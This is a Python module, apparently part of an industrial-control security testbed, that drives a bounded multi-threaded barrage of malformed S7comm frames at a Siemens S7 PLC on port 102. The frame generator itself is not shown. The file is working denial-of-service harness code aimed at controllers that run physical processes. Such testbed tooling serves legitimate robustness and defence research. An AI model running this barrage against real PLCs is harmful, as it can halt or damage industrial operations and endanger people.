"""A bounded barrage of malformed S7comm frames against one S7 PLC.

Run inside the attacker host::

    python -m attacks.s7_fuzz --plan PLAN.json --targets 10.20.2.23 --out fuzz.json \\
        [--port 102] [--frames 10000] [--rate-fps 2000] [--max-s 30] [--seed 1]

Each exchange (:mod:`attacks.s7_frames`) is one TCP connection: its frames are sent in
order, whatever comes back is read briefly, then the connection is closed; four threads
send exchanges at once. Bounded by
``--frames`` (count) and ``--max-s`` (time), paced at ``--rate-fps``. The library part
(:func:`run_barrage`) does no namespace check, so the loopback unit test drives it directly.
Whether the PLC survived is not the attacker's to see: the HMI's availability and the PLC's
own log say it.
"""

from __future__ import annotations

import argparse
import contextlib
import random
import socket
import threading
import time
from collections.abc import Sequence

from attacks.barrage import BarrageCounts, BarrageLimits, OnePortBarrage
from attacks.s7_frames import hostile_exchange
from common.s7 import S7_PORT

LIMITS = BarrageLimits(frames=10_000, max_frames=100_000, rate_fps=2000.0, max_rate_fps=5000.0,
                       max_s=30.0, max_duration_s=300.0)
REPLY_WAIT_S = 0.002
WORKERS = 4


def _exchange(host: str, port: int, frames: list[bytes]) -> tuple[bool, int, int]:
    """Send one exchange on a new connection: (connected, frames sent, reply bytes)."""
    try:
        sock = socket.create_connection((host, port), timeout=1.0)
    except OSError:
        return False, 0, 0
    sent = received = 0
    try:
        for frame in frames:
            sock.sendall(frame)
            sent += 1
        sock.settimeout(REPLY_WAIT_S)  # a glance at the reply; the PLC is judged by its HMI
        with contextlib.suppress(OSError):
            received = len(sock.recv(4096))
    except OSError:
        pass
    finally:
        sock.close()
    return True, sent, received


def run_barrage(host: str, port: int, frames: int, rate_fps: float, max_s: float,
                seed: int = 1, stats: BarrageCounts | None = None,
                workers: int = WORKERS) -> BarrageCounts:
    """Send at least ``frames`` frames (whole exchanges) or stop at ``max_s``.

    ``workers`` threads each open their own connections; the exchanges they send are
    drawn from one seeded generator, so a seed gives the same multiset of frames.
    """
    stats = stats or BarrageCounts()
    rng = random.Random(seed)
    lock = threading.Lock()
    start = time.monotonic()

    def work() -> None:
        while True:
            with lock:
                if stats.frames >= frames or time.monotonic() - start >= max_s:
                    return
                kind, exchange = hostile_exchange(rng)
                stats.count(kind, len(exchange))  # reserved now, so workers stop at the bound
                ahead_s = stats.frames / rate_fps - (time.monotonic() - start)
            if ahead_s > 0:
                time.sleep(ahead_s)
            connected, sent, received = _exchange(host, port, exchange)
            with lock:
                stats.frames -= len(exchange) - sent
                stats.connections += connected
                stats.connect_failures += not connected
                stats.reply_bytes += received

    threads = [threading.Thread(target=work, daemon=True) for _ in range(max(1, workers))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    stats.duration_s = round(time.monotonic() - start, 3)
    return stats


def _send(args: argparse.Namespace, target: str, stats: BarrageCounts) -> None:
    run_barrage(target, args.port, args.frames, args.rate_fps, args.max_s, args.seed, stats)


ATTACK = OnePortBarrage(attack="s7_fuzz", port=S7_PORT, limits=LIMITS,
                        description="A bounded barrage of malformed S7comm frames against "
                                    "one PLC.",
                        new_stats=BarrageCounts, send=_send)


def main(argv: Sequence[str] | None = None) -> int:
    """Run the barrage; returns the exit status (0 ok, 1 failed, 2 refused, 128+N signal N)."""
    return ATTACK.main(argv)


if __name__ == "__main__":
    raise SystemExit(main())
